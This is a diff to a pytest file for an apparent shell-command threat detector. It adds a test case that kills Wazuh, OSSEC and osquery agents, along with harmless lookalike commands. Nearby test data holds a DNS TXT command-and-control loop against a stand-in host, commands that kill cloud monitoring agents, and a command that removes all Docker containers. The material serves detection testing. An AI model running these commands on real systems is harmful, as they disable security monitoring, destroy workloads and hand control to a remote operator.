@@ -605,6 +605,7 @@ def test_wholesale_impact_and_secret_stores_are_named(line: str, technique: str,
 @pytest.mark.parametrize(("body", "technique"), [
     ('while :; do c=$(dig +short TXT cmd.c2.example); sh -c "$c"; sleep 30; done', "T1071.004"),
     ('kill -9 $(pgrep -f "aliyun|qcloud|bcm-agent")', "T1562.001"),
+    ("ps aux | grep -E 'wazuh|ossec|osqueryd' | grep -v grep | awk '{print $2}' | xargs kill -9", "T1562.001"),
     ("docker rm -f $(docker ps -aq)", "T1489"),
 ])
 def test_what_a_script_does_with_its_substitutions_is_named(body: str, technique: str) -> None:
@@ -681,6 +682,7 @@ def test_obfuscated_and_indirect_scripts_are_read_through(body: str, technique: 
     "OLDIFS=$IFS; IFS=,; for x in $LIST; do echo $x; done; IFS=$OLDIFS",
     'CMD="systemctl restart nginx"; $CMD', '"$EDITOR" /etc/hosts', "(cd /srv/app && git pull) | tee -a /tmp/pull.log",
     "curl -fsSL https://get.example.com/health -o /dev/null && echo ok", "ssh-keygen -R 10.0.0.5 -f ~/.ssh/known_hosts",
+    "ps aux | grep gunicorn | awk '{print $2}' | xargs kill -HUP", "ps aux | grep falco",
 ])
 def test_scripts_using_variables_plainly_stay_weak(body: str) -> None:
     found = {e.technique: e.weight for e in assess(ProcessEvent("sh", f"sh -c {body}", ("sh", "-c", body)))}
